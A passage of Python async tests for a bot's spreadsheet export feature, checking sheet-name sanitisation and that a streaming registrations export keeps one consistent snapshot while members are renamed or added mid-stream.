        world, world.admin, ExportKind.INITIATIVES, ExportFormat.XLSX, tmp_path, "en"
    )
    assert load_workbook(result.files[0]).sheetnames == [
        "Summary",
        "Initiatives",
        "Initiative history",
    ]
    assert bot.exports._safe_sheet_name("History") == "History (1)"
    assert bot.exports._safe_sheet_name("Tháng 1/2026: [BTP]") == "Tháng 1 2026 BTP"


async def test_an_export_counts_and_streams_one_snapshot_while_others_read_current_data(
    seeded: World, tmp_path: Path
) -> None:
    """Mid-stream (its cursor open), a member is renamed and another registers: the normal
    read path sees both at once, and the export, one snapshot, agrees with its own counts."""
    repository = GatedRepository(seeded.db, chunk=1)
    service = service_reading(seeded, repository)
    request = ExportRequest(ExportKind.REGISTRATIONS, ExportScope(), ExportFormat.XLSX)
    task = asyncio.create_task(service.run(seeded.admin, request, tmp_path / "out"))
    await asyncio.wait_for(repository.inside.wait(), 5)
    repository.gate.set()
    await asyncio.wait_for(repository.streamed.wait(), 5)  # one row out, the cursor open
    anna = seeded.people["Đỗ Thị An"]
    await seeded.db.execute(
        "UPDATE members SET full_name = 'Đỗ Thị An Nhiên' WHERE id = ?", (anna.id,)
    )
    late = await seeded.member("Người Đến Muộn", seeded.btp)
    await seeded.register(seeded.blood, late)  # type: ignore[attr-defined]
    renamed = await seeded.members.by_id(anna.id)
    assert renamed is not None and renamed.full_name == "Đỗ Thị An Nhiên"
    count = await seeded.db.fetch_value("SELECT COUNT(*) FROM registrations")
    assert count == len(HOSTILE) + 2
    repository.release.set()
    result = await asyncio.wait_for(task, 10)
    names = [r["Họ và tên"] for r in by_header(sheet_rows(result.files[0], "Đăng ký"))]
    assert result.rows == len(names) == len(HOSTILE) + 1  # as when it began
    assert "Đỗ Thị An" in names and "Người Đến Muộn" not in names
